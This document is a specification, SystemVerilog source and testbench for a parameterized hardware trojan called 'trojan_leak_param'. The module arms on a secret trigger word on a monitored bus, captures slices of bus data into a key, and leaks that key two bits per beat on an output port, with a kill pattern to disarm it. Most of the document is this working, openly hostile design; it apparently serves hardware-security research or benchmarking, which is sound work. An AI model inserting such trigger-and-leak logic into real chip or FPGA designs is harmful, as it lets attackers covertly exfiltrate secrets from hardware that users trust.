trojan_leak_param: RTL and testbench
====================================

TROJAN_LEAK_PARAM -- requirements
Module: trojan_leak_param

Interface
REQ-001 Parameter DATA_W, default 64: width of monitored data bus.
REQ-002 Parameter TRIG_W, default 32: trigger compare width, data[TRIG_W-1:0].
REQ-003 Parameter TRIG_VAL, default 32'h0044ab93: arming pattern.
REQ-004 Parameter KILL_VAL, default 32'h00dead00: disarm pattern; SHALL differ from TRIG_VAL.
REQ-005 Parameter SEL_W, default 3: slice-select field, data[TRIG_W+SEL_W-1:TRIG_W].
REQ-006 Parameter SLICE_W, default 8: width of one captured slice.
REQ-007 Parameter NSLICE, default 4: slices captured; key register K is NSLICE*SLICE_W bits.
REQ-008 Parameter OUT_W, default 2: bits emitted per beat; SHALL divide NSLICE*SLICE_W.
REQ-009 Parameter REPEATS, default 1, range 1..15: full-key emissions per trigger.
REQ-010 clk  input  1  sole clock, rising edge.
REQ-011 rst_all_n  input  1  asynchronous, active-low reset.
REQ-012 data  input  DATA_W  monitored bus, sampled on rising clk.
REQ-013 out  output  OUT_W  emitted key bits.
REQ-014 out_valid  output  1  high on each emission beat.
REQ-015 busy  output  1  high in CAPTURE or LEAK.

Function
REQ-016 FSM states SHALL be IDLE, CAPTURE, LEAK; registered state, one transition per edge.
REQ-017 IDLE: if data[TRIG_W-1:0]==TRIG_VAL, latch sel from the select field, clear cap_cnt, go CAPTURE.
REQ-018 CAPTURE: each cycle write K[cap_cnt*SLICE_W +: SLICE_W] <= data[sel*SLICE_W +: SLICE_W]; other K bits hold; cap_cnt increments.
REQ-019 sel with (sel+1)*SLICE_W > DATA_W SHALL select slice 0.
REQ-020 After NSLICE capture cycles, go LEAK with beat_cnt=0 and rep_cnt=0.
REQ-021 LEAK: out = K[OUT_W-1:0], out_valid=1; each cycle K rotates right by OUT_W (not shifted) so the key is preserved for repeats.
REQ-022 LEAK length SHALL be exactly REPEATS*(NSLICE*SLICE_W/OUT_W) cycles, then IDLE; out_valid drops the cycle after the last beat.
REQ-023 Latency: trigger sampled at edge n -> slices sampled at edges n+1..n+NSLICE -> first out_valid in the cycle after edge n+NSLICE, LSB-first.
REQ-024 Outside LEAK, out SHALL be 0 and out_valid 0; outputs derive from registers only (no data->out combinational path).
REQ-025 TRIG_VAL while in CAPTURE or LEAK SHALL be ignored (no restart, sel unchanged).
REQ-026 KILL_VAL in any state SHALL force IDLE at the next edge; K cleared to 0, counters cleared.
REQ-027 Counters SHALL be sized by $clog2 of their terminal counts and never wrap within one operation.
REQ-028 Back-to-back: TRIG_VAL present on the first IDLE cycle after LEAK SHALL re-arm immediately.

Reset
REQ-029 rst_all_n low SHALL immediately (asynchronously) force IDLE, K=0, sel=0, all counters 0, out=0, out_valid=0, busy=0.
REQ-030 Reset deassertion mid-operation SHALL resume in IDLE; no residual emission.

Verification (defaults)
REQ-031 data=64'h0000_0001_0044ab93, then four cycles with data[15:8]=8'hA5,5A,C3,3C -> K=32'h3CC35AA5; 16 beats out=1,1,2,2,2,2,1,1,3,0,0,3,0,3,3,0.
REQ-032 Trigger with select field 7, byte 7 = 8'hFF for four cycles -> all 16 beats out=3; sel=7 at SLICE_W=16 config -> slice 0 used.
REQ-033 REPEATS=3 -> 48 contiguous beats, sequence of REQ-031 emitted three times, then out_valid=0, busy=0.
REQ-034 KILL_VAL at LEAK beat 5 -> next cycle out_valid=0, busy=0, K=0; later trigger operates normally.
REQ-035 TRIG_VAL reapplied during CAPTURE cycle 2 -> K and sel unaffected, beat count unchanged at 16.
REQ-036 rst_all_n pulsed low between edges during LEAK -> outputs 0 before next edge; no beats after release without new trigger.

Source files
------------

// File: rtl/trojan_leak_param.sv
// Bus monitor that arms on a trigger pattern, captures NSLICE slices of the bus into a key,
// then emits the key OUT_W bits per beat, REPEATS times, with a kill pattern that disarms it.
module trojan_leak_param #(
    parameter int unsigned       DATA_W   = 64,
    parameter int unsigned       TRIG_W   = 32,
    parameter logic [TRIG_W-1:0] TRIG_VAL = 32'h0044ab93,
    parameter logic [TRIG_W-1:0] KILL_VAL = 32'h00dead00,
    parameter int unsigned       SEL_W    = 3,
    parameter int unsigned       SLICE_W  = 8,
    parameter int unsigned       NSLICE   = 4,
    parameter int unsigned       OUT_W    = 2,
    parameter int unsigned       REPEATS  = 1
) (
    input  logic              clk,
    input  logic              rst_all_n,
    input  logic [DATA_W-1:0] data,
    output logic [OUT_W-1:0]  out,
    output logic              out_valid,
    output logic              busy
);

    localparam int unsigned KEY_W   = NSLICE * SLICE_W;
    localparam int unsigned BEATS   = KEY_W / OUT_W;
    localparam int unsigned NSRC    = DATA_W / SLICE_W;
    localparam int unsigned NSEL    = 1 << SEL_W;
    localparam int unsigned NCAND   = (NSRC < NSEL) ? NSRC : NSEL;
    localparam int unsigned CAP_CW  = (NSLICE > 1)  ? $clog2(NSLICE)  : 1;
    localparam int unsigned BEAT_CW = (BEATS > 1)   ? $clog2(BEATS)   : 1;
    localparam int unsigned REP_CW  = (REPEATS > 1) ? $clog2(REPEATS) : 1;

    typedef enum logic [1:0] {IDLE, CAPTURE, LEAK} state_t;

    state_t             state;
    logic [KEY_W-1:0]   key;
    logic [SEL_W-1:0]   sel;
    logic [CAP_CW-1:0]  cap_cnt;
    logic [BEAT_CW-1:0] beat_cnt;
    logic [REP_CW-1:0]  rep_cnt;

    logic               trig_hit;
    logic               kill_hit;
    logic [SLICE_W-1:0] src_slice;
    logic [KEY_W-1:0]   key_cap;
    logic [KEY_W-1:0]   key_rot;

    assign trig_hit = (data[TRIG_W-1:0] == TRIG_VAL);
    assign kill_hit = (data[TRIG_W-1:0] == KILL_VAL);
    assign key_rot  = {key[OUT_W-1:0], key[KEY_W-1:OUT_W]};

    // Selected bus slice; selects that fall past the top of the bus fall back to slice 0
    always_comb begin
        src_slice = data[SLICE_W-1:0];
        for (int unsigned i = 0; i < NCAND; i++) begin
            if (32'(sel) == i) src_slice = data[i*SLICE_W +: SLICE_W];
        end
    end

    // Key with the current capture slot overwritten
    always_comb begin
        key_cap = key;
        for (int unsigned j = 0; j < NSLICE; j++) begin
            if (32'(cap_cnt) == j) key_cap[j*SLICE_W +: SLICE_W] = src_slice;
        end
    end

    always_ff @(posedge clk or negedge rst_all_n) begin
        if (!rst_all_n) begin
            state     <= IDLE;
            key       <= '0;
            sel       <= '0;
            cap_cnt   <= '0;
            beat_cnt  <= '0;
            rep_cnt   <= '0;
            out       <= '0;
            out_valid <= 1'b0;
            busy      <= 1'b0;
        end else if (kill_hit) begin
            state     <= IDLE;
            key       <= '0;
            sel       <= '0;
            cap_cnt   <= '0;
            beat_cnt  <= '0;
            rep_cnt   <= '0;
            out       <= '0;
            out_valid <= 1'b0;
            busy      <= 1'b0;
        end else begin
            case (state)
                IDLE: begin
                    if (trig_hit) begin
                        sel     <= data[TRIG_W +: SEL_W];
                        cap_cnt <= '0;
                        busy    <= 1'b1;
                        state   <= CAPTURE;
                    end
                end
                CAPTURE: begin
                    key <= key_cap;
                    if (cap_cnt == CAP_CW'(NSLICE - 1)) begin
                        beat_cnt  <= '0;
                        rep_cnt   <= '0;
                        out       <= key_cap[OUT_W-1:0];
                        out_valid <= 1'b1;
                        state     <= LEAK;
                    end else begin
                        cap_cnt <= cap_cnt + CAP_CW'(1);
                    end
                end
                LEAK: begin
                    // Rotate rather than shift so each repeat replays the full key
                    key <= key_rot;
                    out <= key_rot[OUT_W-1:0];
                    if (beat_cnt == BEAT_CW'(BEATS - 1)) begin
                        beat_cnt <= '0;
                        if (rep_cnt == REP_CW'(REPEATS - 1)) begin
                            out       <= '0;
                            out_valid <= 1'b0;
                            busy      <= 1'b0;
                            state     <= IDLE;
                        end else begin
                            rep_cnt <= rep_cnt + REP_CW'(1);
                        end
                    end else begin
                        beat_cnt <= beat_cnt + BEAT_CW'(1);
                    end
                end
                default: state <= IDLE;
            endcase
        end
    end

endmodule

// File: tb/tb_trojan_leak_param.sv
// Randomized bench for trojan_leak_param: three configurations share one bus and are
// compared every cycle against an edge-indexed transaction model.
module tb_trojan_leak_param;

    localparam logic [31:0] TRIG = 32'h0044ab93;
    localparam logic [31:0] KILL = 32'h00dead00;

    logic        clk = 1'b0;
    logic        rst_n;
    logic [63:0] data;
    logic [1:0]  o0, o1, o2;
    logic        v0, v1, v2;
    logic        b0, b1, b2;

    int n_checks = 0;
    int n_errors = 0;

    always #5 clk = ~clk;

    trojan_leak_param dut_a (
        .clk(clk), .rst_all_n(rst_n), .data(data), .out(o0), .out_valid(v0), .busy(b0));
    trojan_leak_param #(.REPEATS(3)) dut_b (
        .clk(clk), .rst_all_n(rst_n), .data(data), .out(o1), .out_valid(v1), .busy(b1));
    trojan_leak_param #(.SLICE_W(16), .NSLICE(2)) dut_c (
        .clk(clk), .rst_all_n(rst_n), .data(data), .out(o2), .out_valid(v2), .busy(b2));

    // Model per configuration: slice width, slice count, repeats
    int          sw [3] = '{8, 8, 16};
    int          ns [3] = '{4, 4, 2};
    int          rp [3] = '{1, 3, 1};
    bit          act[3];
    int          st [3];
    int          en [3];
    int          sl [3];
    logic [31:0] key[3];
    int          edge_n = 0;

    task automatic chk(input string tag, input logic [31:0] got, input logic [31:0] exp);
        n_checks++;
        if (got !== exp) begin
            n_errors++;
            $display("FAIL %s: got %0h expected %0h (edge %0d)", tag, got, exp, edge_n);
        end
    endtask

    task automatic model_reset();
        for (int d = 0; d < 3; d++) begin
            act[d] = 1'b0;
            key[d] = '0;
        end
    endtask

    // Apply one sampled bus word to each configuration's transaction record
    task automatic model_edge(input logic [63:0] w);
        int          eff;
        int          idx;
        logic [63:0] mask;
        for (int d = 0; d < 3; d++) begin
            if (w[31:0] == KILL) begin
                act[d] = 1'b0;
                key[d] = '0;
            end else if (act[d] && edge_n > st[d] && edge_n <= st[d] + ns[d]) begin
                eff  = ((sl[d] + 1) * sw[d] > 64) ? 0 : sl[d];
                idx  = edge_n - st[d] - 1;
                mask = (64'd1 << sw[d]) - 64'd1;
                key[d] = key[d] | (32'((w >> (eff * sw[d])) & mask) << (idx * sw[d]));
            end else if ((!act[d] || edge_n > en[d]) && w[31:0] == TRIG) begin
                act[d] = 1'b1;
                st[d]  = edge_n;
                en[d]  = edge_n + ns[d] + rp[d] * (ns[d] * sw[d] / 2);
                sl[d]  = int'(w[34:32]);
                key[d] = '0;
            end
        end
        edge_n++;
    endtask

    task automatic check_all();
        logic [1:0] go[3];
        logic       gv[3];
        logic       gb[3];
        int         le;
        int         bpr;
        logic       eb;
        logic       ev;
        logic [1:0] eo;
        go[0] = o0; go[1] = o1; go[2] = o2;
        gv[0] = v0; gv[1] = v1; gv[2] = v2;
        gb[0] = b0; gb[1] = b1; gb[2] = b2;
        le = edge_n - 1;
        for (int d = 0; d < 3; d++) begin
            bpr = ns[d] * sw[d] / 2;
            eb  = act[d] && le < en[d];
            ev  = act[d] && le >= st[d] + ns[d] && le < en[d];
            eo  = ev ? 2'((key[d] >> (2 * ((le - st[d] - ns[d]) % bpr))) & 32'd3) : 2'd0;
            chk($sformatf("busy_%0d", d), 32'(gb[d]), 32'(eb));
            chk($sformatf("valid_%0d", d), 32'(gv[d]), 32'(ev));
            chk($sformatf("out_%0d", d), 32'(go[d]), 32'(eo));
        end
    endtask

    task automatic step(input logic [63:0] w);
        data = w;
        @(posedge clk);
        model_edge(w);
        @(negedge clk);
        check_all();
    endtask

    function automatic logic [63:0] fix(input logic [63:0] w);
        logic [63:0] r;
        r = w;
        if (r[31:0] == TRIG || r[31:0] == KILL) r[31] = ~r[31];
        return r;
    endfunction

    function automatic logic [63:0] rnd_word();
        return fix({$urandom, $urandom});
    endfunction

    function automatic logic [63:0] trig_word(input logic [2:0] s);
        logic [63:0] w;
        w = {$urandom, $urandom};
        w[31:0]  = TRIG;
        w[34:32] = s;
        return w;
    endfunction

    function automatic logic [63:0] kill_word();
        logic [63:0] w;
        w = {$urandom, $urandom};
        w[31:0] = KILL;
        return w;
    endfunction

    task automatic idle(input int n);
        for (int i = 0; i < n; i++) step(rnd_word());
    endtask

    initial begin
        logic [7:0]  pat[4];
        logic [1:0]  exp031[16];
        logic [63:0] w;
        int          cnt;
        int          r;

        pat    = '{8'hA5, 8'h5A, 8'hC3, 8'h3C};
        exp031 = '{2'd1, 2'd1, 2'd2, 2'd2, 2'd2, 2'd2, 2'd1, 2'd1,
                   2'd3, 2'd0, 2'd0, 2'd3, 2'd0, 2'd3, 2'd3, 2'd0};
        model_reset();
        rst_n = 1'b0;
        data  = '0;
        repeat (3) @(negedge clk);
        check_all();
        rst_n = 1'b1;
        idle(3);

        // Reference key 32'h3CC35AA5 from byte 1
        step(64'h0000_0001_0044ab93);
        for (int i = 0; i < 4; i++) begin
            w = rnd_word();
            w[15:8] = pat[i];
            step(fix(w));
        end
        chk("key_a", key[0], 32'h3CC35AA5);
        for (int i = 0; i < 16; i++) begin
            chk("req031_beat", 32'(o0), 32'(exp031[i]));
            step(rnd_word());
        end
        chk("req031_done", 32'(v0), 32'd0);
        idle(36);

        // Top byte select; 16-bit slices fall back to slice 0
        step(trig_word(3'd7));
        for (int i = 0; i < 4; i++) begin
            w = rnd_word();
            w[63:56] = 8'hFF;
            step(w);
        end
        for (int i = 0; i < 16; i++) begin
            chk("sel7_beat", 32'(o0), 32'd3);
            step(rnd_word());
        end
        idle(36);

        // Trigger during capture is ignored
        step(trig_word(3'd1));
        step(rnd_word());
        step(trig_word(3'd5));
        step(rnd_word());
        step(rnd_word());
        cnt = 0;
        for (int i = 0; i < 30; i++) begin
            if (v0) cnt++;
            step(rnd_word());
        end
        chk("retrig_beats", 32'(cnt), 32'd16);
        idle(30);

        // Kill at beat 5
        step(trig_word(3'd2));
        for (int i = 0; i < 4; i++) step(rnd_word());
        for (int i = 0; i < 5; i++) step(rnd_word());
        step(kill_word());
        chk("kill_valid", 32'(v0), 32'd0);
        chk("kill_busy", 32'(b1), 32'd0);
        idle(3);
        step(trig_word(3'd4));
        idle(56);

        // Back-to-back re-arm on first idle cycle
        step(trig_word(3'd3));
        for (int i = 0; i < 4; i++) step(rnd_word());
        for (int i = 0; i < 16; i++) step(rnd_word());
        step(trig_word(3'd0));
        chk("b2b_busy", 32'(b0), 32'd1);
        idle(60);

        // Asynchronous reset pulse during emission
        step(trig_word(3'd1));
        for (int i = 0; i < 4; i++) step(rnd_word());
        idle(3);
        #2 rst_n = 1'b0;
        #1;
        chk("rst_out", 32'({o0, o1, o2}), 32'd0);
        chk("rst_valid", 32'({v0, v1, v2}), 32'd0);
        chk("rst_busy", 32'({b0, b1, b2}), 32'd0);
        model_reset();
        #1 rst_n = 1'b1;
        idle(60);

        // Random traffic with stray triggers and kills
        for (int t = 0; t < 40; t++) begin
            idle(int'($urandom_range(0, 25)));
            step(trig_word(3'($urandom_range(0, 7))));
            for (int k = 0; k < 60; k++) begin
                r = int'($urandom_range(0, 59));
                if (r == 0)      step(kill_word());
                else if (r < 4)  step(trig_word(3'($urandom_range(0, 7))));
                else             step(rnd_word());
            end
        end
        idle(60);

        $display("Simulation finished: %0d checks, %0d errors", n_checks, n_errors);
        $finish;
    end

endmodule
